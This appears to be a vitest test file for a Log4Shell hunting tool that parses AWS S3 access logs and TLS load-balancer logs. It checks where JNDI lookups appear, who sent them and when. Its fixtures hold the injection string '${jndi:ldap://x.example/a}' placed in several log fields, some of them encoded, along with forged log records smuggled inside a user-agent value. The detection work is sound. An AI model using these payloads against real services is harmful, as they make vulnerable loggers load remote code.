import { expect, test } from 'vitest'
import { huntIn } from '../../../test/kit/hunting.ts'

const owner = '79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be'
const attack = '${jndi:ldap://x.example/a}'
const forged = `${owner} b [01/Jan/2020:00:00:00 +0000] 192.0.2.1 - AB REST.GET.OBJECT k "GET /b HTTP/1.1" 200 - 1 1 1 1 "-" "c" -`

function s3(key: string, request: string, referer: string, agent: string, host = 'b.s3.amazonaws.com') {
  return `${owner} shop [12/Dec/2021:04:25:41 +0000] 203.0.113.9 - 3E57427F33A59F07 REST.GET.OBJECT ${key} "${request}" 200 - 1 1 7 6 "${referer}" "${agent}" - s9lz= SigV4 ECDHE AuthHeader ${host} TLSv1.2 - -`
}

test.each([
  ['key', s3('%2524%257Bjndi:ldap://x.example/a%257D', 'GET /a HTTP/1.1', '-', 'curl/7')],
  ['request', s3('a', `GET /${attack} HTTP/1.1`, '-', 'curl/7')],
  ['referer', s3('a', 'GET /a HTTP/1.1', attack, 'curl/7')],
  ['user agent', s3('a', 'GET /a HTTP/1.1', '-', attack)],
  ['host', s3('a', 'GET /a HTTP/1.1', '-', 'curl/7', attack)],
  ['user agent', s3('a', 'GET /a HTTP/1.1', '-', `${attack} ${forged.replaceAll('"', "'")}`)],
])('an attack in the %s of a request to S3 has the source and the time of its record', (field, record) => {
  expect(huntIn(record).findings).toMatchObject([
    { field, from: '203.0.113.9', when: Date.UTC(2021, 11, 12, 4, 25, 41), lookup: { host: 'x.example', path: 'a' } },
  ])
})

test('a record of S3 that an agent holds, with its quotes, is no record', () => {
  const { findings } = huntIn(s3('a', 'GET /a HTTP/1.1', '-', `x" ${forged} "${attack}`))

  expect(findings).toMatchObject([
    { from: '203.0.113.9', when: Date.UTC(2021, 11, 12, 4, 25, 41), lookup: { raw: attack } },
  ])
})

test.each([
  ['domain', attack],
  ['domain', 'x 203.0.113.66:1 ${jndi:ldap://x.example/a b}'],
])('a name that a TLS client asked for says nothing of who connected', (field, name) => {
  const record = `tls 2.0 2021-12-12T04:25:41 net/my-lb/c6e7 g3d4 203.0.113.9:51341 10.0.0.5:443 5 2 98 246 - arn:aws:acm:a - ECDHE tlsv12 - ${name} h2 h2 "h2","http/1.1" 2021-12-12T04:25:40`

  expect(huntIn(record).findings).toMatchObject([{ field, from: '203.0.113.9', lookup: { host: 'x.example' } }])
})
